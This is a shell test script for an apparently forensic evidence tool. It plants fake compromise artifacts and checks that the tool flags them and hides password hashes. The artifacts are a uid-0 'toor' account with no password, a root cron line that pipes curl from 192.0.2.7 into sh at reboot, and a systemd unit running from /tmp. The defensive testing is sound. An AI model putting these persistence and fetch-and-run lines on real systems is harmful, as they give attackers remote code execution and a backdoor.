#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Files of configuration that somebody brings: evidence, and facts, which name
# the bytes that say them; no hash of a password leaves its evidence.
# shellcheck source=tests/cli/lib.sh disable=SC2154
. "$(dirname "$0")/lib.sh"
run 0 new a.case
HALLIGAN_CASE=$here/a.case
export HALLIGAN_CASE

mkdir -p etc/cron.d etc/systemd/system home/eve/.ssh
printf 'root:x:0:0:root:/root:/bin/bash\ntoor::0:0::/:/bin/sh\n' >etc/passwd
# shellcheck disable=SC2016
printf 'root:$6$salt$thisisahash:19700:0:99999:7:::\n' >etc/shadow
printf '@reboot root curl http://192.0.2.7/x | sh\n' >etc/cron.d/x
printf '[Service]\nExecStart=/tmp/.x/run\n' >etc/systemd/system/x.service
: >home/eve/.bash_history
for file in etc/passwd etc/shadow etc/cron.d/x etc/systemd/system/x.service \
	home/eve/.bash_history; do
	run 0 import "$file" --host web1
done

run 0 fact list --kind account --json
lines out 2
says out '"name":"toor"'
# The bytes that say so are those of the line.
grep '"name":"toor"' out >toor
says toor '"offset":32,'
says toor '"length":21'
run 0 account list --json
says out '"name":"toor"'

run 0 fact list --kind password --json
says out 'set'
never_says out thisisahash
never_says out salt

run 0 fact list --kind cron --json
says out 'pipe-to-shell'
says out '@reboot'
run 0 unit list --json
says out '/tmp/.x/run'
run 0 fact list --kind unit --json
says out 'scratch-path'
run 0 fact list --kind history --json
says out '.bash_history'

# What is no such file is asked for by name alone.
printf 'root:x:0:0:root:/root:/bin/bash\n' >accounts
run 1 import accounts --host web2
run 0 import accounts --host web2 --as passwd
run 0 fact list --host web2 --kind account --json
lines out 1
run 0 verify
finish
